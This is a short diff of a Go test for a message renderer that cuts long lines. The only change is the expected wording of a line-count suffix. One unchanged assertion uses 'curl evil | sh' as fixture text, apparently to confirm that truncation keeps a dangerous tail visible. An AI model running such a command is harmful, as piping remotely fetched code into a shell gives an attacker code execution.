@@ -57,7 +57,7 @@ func TestLongLinesAreCut(t *testing.T) {
 	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(got, "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(got, "more bytes, in all sha256:") || !utf8.ValidString(got) {
 		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
 	}
-	if got := render(Message{Quoted: strings.Repeat("x\n", 1000)}); !strings.HasSuffix(got, "(that were 1000 lines)\n") {
+	if got := render(Message{Quoted: strings.Repeat("x\n", 1000)}); !strings.HasSuffix(got, "(1000 lines in all)\n") {
 		t.Error("the length is not said")
 	}
 }
